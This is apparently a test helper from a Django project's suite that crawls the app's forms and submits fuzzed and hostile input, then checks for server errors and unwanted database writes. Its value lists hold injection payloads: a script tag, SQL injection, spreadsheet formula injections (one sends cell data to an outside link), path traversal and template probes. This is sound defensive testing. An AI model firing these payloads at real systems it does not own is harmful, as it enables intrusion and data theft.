"""Generic form fuzzing: find every form a role can reach, then throw arbitrary input at it.

Nothing here knows the project's forms. ``crawl`` follows the links a user sees from the home
page (menus, lists, detail pages, the admin) and parses each page's ``<form>`` elements; a new
app's pages join as soon as they are linked. ``Fuzzer`` submits each form with its own valid
values (what the page shows, or a plausible value by input type) where one or more fields carry
a Hypothesis-drawn value: arbitrary text, control characters, huge numbers, far dates, mixed
scripts, very long strings. Each submission must satisfy:

- never a 5xx;
- a refused submission (the form comes back) changes no row of the project's tables;
- an accepted one (a redirect) stores each free-text value as typed (after the trimming and
  control-character removal every form may do), checked against every string in the tables.
"""
import datetime
import re
from dataclasses import dataclass, field
from decimal import Decimal
from html.parser import HTMLParser
from urllib.parse import urldefrag, urljoin, urlsplit

from django.apps import apps
from django.conf import settings
from django.db import connection
from hypothesis import strategies as st

from core.forms import clean_text

# Pages and actions a crawl does not open: leaving, the admin's destructive or self-locking pages.
SKIP_URL = re.compile(r"logout|/static/|/media/|/i18n/|/history/|/delete/|/password/|/healthz|\.xlsx$")
TEXT_TYPES = {"text", "search", "textarea", "tel", "email", "url", ""}


@dataclass
class Field:
    name: str
    kind: str  # input type, "select", "textarea"
    value: str = ""
    options: list[str] = field(default_factory=list)
    multiple: bool = False
    checked: bool = False


@dataclass
class Form:
    page: str
    action: str
    method: str
    fields: list[Field] = field(default_factory=list)

    @property
    def key(self) -> str:
        # One form per kind of page: /households/3/edit/ and /households/4/edit/ are the same form.
        action = re.sub(r"/\d+/", "/N/", urlsplit(self.action).path)
        return f"{self.method.upper()} {action} ({' '.join(sorted({f.name for f in self.fields}))})"


class _PageParser(HTMLParser):
    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.page, self.links, self.forms = page, [], []
        self._form: Form | None = None
        self._select: Field | None = None
        self._textarea: Field | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "a" and a.get("href"):
            self.links.append(urljoin(self.page, a["href"]))
        elif tag == "form":
            self._form = Form(self.page, urljoin(self.page, a.get("action") or self.page), (a.get("method") or "get").lower())
            self.forms.append(self._form)
        elif self._form is None or "name" not in a:
            return
        elif tag == "input" and a.get("type") not in ("submit", "button", "reset", "file", "image"):
            kind = a.get("type", "text")
            if kind in ("checkbox", "radio"):
                existing = next((f for f in self._form.fields if f.name == a["name"] and f.kind == kind), None)
                if existing is None:
                    existing = Field(a["name"], kind, multiple=kind == "checkbox")
                    self._form.fields.append(existing)
                existing.options.append(a.get("value", "on"))
                if "checked" in a:
                    existing.value = existing.value or a.get("value", "on")
            else:
                self._form.fields.append(Field(a["name"], kind, a.get("value", "")))
        elif tag == "select":
            self._select = Field(a["name"], "select", multiple="multiple" in a)
            self._form.fields.append(self._select)
        elif tag == "option" and self._select is not None:
            self._select.options.append(a.get("value", ""))
            if "selected" in a:
                self._select.value = a.get("value", "")
        elif tag == "textarea":
            self._textarea = Field(a["name"], "textarea")
            self._form.fields.append(self._textarea)

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea.value += data

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            if self._textarea is not None:
                self._textarea.value = self._textarea.value.removeprefix("\n")
            self._textarea = None


@dataclass
class CrawlResult:
    forms: list[Form]
    exports: list[str]
    pages: list[str]
    # An export link carries its list's filters: the GET forms of the page that links to it.
    export_filters: dict[str, list[Form]] = field(default_factory=dict)


def crawl(client, *, start: str = "/", limit: int = 80) -> CrawlResult:
    """Breadth-first over same-site links from ``start``; at most ``limit`` pages (GET only)."""
    seen, queue, forms, exports, pages = set(), [start], {}, [], []
    export_filters: dict[str, list[Form]] = {}
    seen_paths: set[str] = set()
    while queue and len(pages) < limit:
        url = queue.pop(0)
        response = client.get(url)
        assert response.status_code < 500, f"{url} answered {response.status_code}"
        if response.get("Content-Type", "").startswith("application/vnd.openxmlformats"):
            exports.append(url)
            continue
        if response.status_code != 200 or not response.get("Content-Type", "").startswith("text/html"):
            continue
        pages.append(url)
        parser = _PageParser(url)
        parser.feed(response.content.decode())
        for form in parser.forms:
            if "/i18n/" in form.action or "logout" in form.action:
                continue
            forms.setdefault(form.key, form)
        for link in parser.links:
            link = urldefrag(link)[0]
            parts = urlsplit(link)
            if "export" in parts.path:
                export_filters.setdefault(parts.path, [f for f in parser.forms if f.method == "get"])
            if parts.netloc not in ("", "testserver") or SKIP_URL.search(parts.path) and "export" not in parts.path:
                continue
            local = parts.path + (f"?{parts.query}" if parts.query else "")
            # One page per path (and one per path with a query): lists paged 50 times add nothing.
            path_key = parts.path + ("?" if parts.query else "")
            if local in seen or (path_key in seen_paths and "export" not in parts.path):
                continue
            seen.add(local)
            seen_paths.add(path_key)
            queue.append(local)
    # Destructive forms last, so the records the others need are still there.
    ordered = sorted(forms.values(), key=lambda f: bool(re.search(r"void|merge|cancel|confirm|revert", f.action)))
    return CrawlResult(ordered, exports, pages, export_filters)


# --- Values ---------------------------------------------------------------------------------
def plausible(f: Field, today: datetime.date) -> str | list[str]:
    """A value the form would likely accept, so the fuzzed field is the only thing wrong."""
    if f.kind in ("checkbox", "radio"):
        chosen = f.value or (f.options[0] if f.options and f.kind == "radio" else "")
        return [chosen] if chosen and f.multiple else chosen
    if f.kind == "select":
        if f.value:
            return [f.value] if f.multiple else f.value
        choice = next((o for o in f.options if o), "")
        return [choice] if f.multiple and choice else choice
    if f.value:
        return f.value
    if f.kind == "date" or f.name.endswith(("date", "_on", "_from", "_to")):
        return today.isoformat() if not f.name.endswith("_to") else (today + datetime.timedelta(days=1)).isoformat()
    if f.kind == "number" or f.name in ("boys", "girls", "next_child_order"):
        return "1"
    if f.kind == "hidden":
        return ""
    return "测试"


CONTROL = st.text(alphabet=st.characters(max_codepoint=0x1F), min_size=1, max_size=8)
MIXED = st.sampled_from([
    "王𠮷 ﾃｽﾄ Ωmega عربى हिन्दी", "\u202eRTL override", "\u200bzero\u200dwidth", "𝕏" * 300, "A" * 5000,
    "=HYPERLINK(\"http://x/?d=\"&A1,\"点击\")", "@SUM(1+1)", "-2+3", "<script>alert(1)</script>", "' OR 1=1 --",
    "\\x00", "NaN", "Infinity", "1e309", "-0", "　全角空格　", "null", "None", "../../etc/passwd",
])
NUMBERS = st.one_of(
    st.integers(min_value=-10**30, max_value=10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.sampled_from(["99999999999999999999999", "-1", "2147483648", "9223372036854775808", "1_000", "١٢٣"]),
)
DATES = st.one_of(
    st.dates(min_value=datetime.date(1, 1, 1), max_value=datetime.date(9999, 12, 31)).map(datetime.date.isoformat),
    st.sampled_from(["0000-00-00", "2024-02-30", "9999-12-31", "0001-01-01", "1900-01-01", "31/12/2024",
                     "2024-13-01", "２０２４-０１-０１", "yesterday"]),
)
TEXT = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=300)
ANY_VALUE = st.one_of(TEXT, CONTROL.flatmap(lambda c: TEXT.map(lambda t: f"{c}{t}{c}")), MIXED, NUMBERS, DATES,
                      st.just(""))


# --- The hostile values every field gets (issue #22: at least 30 per field, never a 5xx) ---------
NON_UTF8 = object()  # the field sent as raw bytes that are not UTF-8 (%FF%FE%FD)
AS_LIST = object()  # the field sent twice: a list where one value is expected
HOSTILE = [
    "", " ", "\x00", "a\x00b", "\x01\x02\x1b[31m\x7f", "\u202eRTL\u200b\ufeff", "😀👩‍👩‍👧🏳️‍🌈", "王𠮷\U0010ffff",
    "長" * 5000, "A" * 40000, "-1", "0", "-0", "NaN", "Infinity", "-inf", "1e308", "-1e308", "1e309",
    "99999999999999999999999", "9223372036854775808", "-9223372036854775809", "2147483648", "0.0000001",
    "١٢٣", "0001-01-01", "9999-12-31", "2026-02-30", "2024-13-01", "0000-00-00", "31/12/2024",
    "<script>alert(1)</script>", "' OR 1=1 --", "=cmd|' /C calc'!A0", "../../etc/passwd", "%s%n{0}{{7*7}}",
    NON_UTF8, AS_LIST,
]
assert len(HOSTILE) >= 30


def hostile_values(index: int, sample: int | None) -> list:
    """All the hostile values (``sample`` None), or ``sample`` of them chosen by the field's index,
    so that the fields of a form between them still get every value."""
    if sample is None or sample >= len(HOSTILE):
        return list(HOSTILE)
    start = (index * sample) % len(HOSTILE)
    return [HOSTILE[(start + i) % len(HOSTILE)] for i in range(sample)]


def encoded(payload: dict, name: str, marker) -> str:
    """The form body (or query string) with ``name`` as raw non-UTF-8 bytes or as a list."""
    from urllib.parse import urlencode

    others = {k: v for k, v in payload.items() if k != name}
    body = urlencode(others, doseq=True)
    extra = f"{name}=%FF%FE%FD" if marker is NON_UTF8 else f"{name}=1&{name}=%E6%B5%8B"
    return f"{body}&{extra}" if body else extra


def normalize(text: str) -> str:
    """What any form may do to free text: core.forms' hygiene (control, zero-width and bidi
    characters dropped; tabs and line breaks kept where multi-line), then trimmed."""
    return clean_text(text, multiline=True).strip()


# --- The database, before and after -------------------------------------------------------------
# Appended to by every view, change and export: not "what the form wrote".
UNCHECKED_TABLES = {"accounts_auditevent", "accounts_auditchaincheck"}


def project_tables() -> list[str]:
    tables = []
    for label in settings.PROJECT_APPS:
        for model in apps.get_app_config(label).get_models(include_auto_created=True):
            if model._meta.managed and not model._meta.proxy and model._meta.db_table not in UNCHECKED_TABLES:
                tables.append(model._meta.db_table)
    return sorted(set(tables))


def write_count(tables: list[str]) -> int:
    """Rows this transaction (the test's) has inserted, updated or deleted in ``tables`` so far:
    one cheap query. Unchanged across a request means the request wrote nothing there."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT coalesce(sum(n_tup_ins + n_tup_upd + n_tup_del), 0) FROM pg_stat_xact_user_tables"
                       " WHERE relname = ANY(%s)", [tables])
        return int(cursor.fetchone()[0])


class Snapshots:
    """The tables' contents before a request, taken again only when something was written since
    (most fuzzed submissions are refused and write nothing: two cheap counts instead of two full
    reads of every table)."""

    def __init__(self, tables):
        self.tables, self.count, self.snap = tables, None, None

    def before(self) -> None:
        count = write_count(self.tables)
        if count != self.count:
            self.count, self.snap = count, snapshot(self.tables)

    def wrote(self) -> bool:
        return write_count(self.tables) != self.count


def snapshot(tables: list[str]) -> dict[str, str]:
    """Every row of every project table as JSON text, one round trip."""
    sql = " UNION ALL ".join(
        f"SELECT '{t}', coalesce((SELECT json_agg(x ORDER BY x::text)::text FROM {t} x), '[]')" for t in tables  # nosec B608: table names from introspection
    )
    with connection.cursor() as cursor:
        cursor.execute(sql)
        return dict(cursor.fetchall())


def strings_in(snap: dict[str, str]) -> set[str]:
    import json

    found = set()

    def walk(value):
        if isinstance(value, str):
            found.add(normalize(value))
        elif isinstance(value, (int, Decimal)) and not isinstance(value, bool):
            # A numeric column: a score typed into a text box is stored as a number (5 → 5.00).
            found.add(str(value))
        elif isinstance(value, list):
            for item in value:
                walk(item)
        elif isinstance(value, dict):
            for item in value.values():
                walk(item)

    for text in snap.values():
        walk(json.loads(text, parse_float=Decimal))
    return found
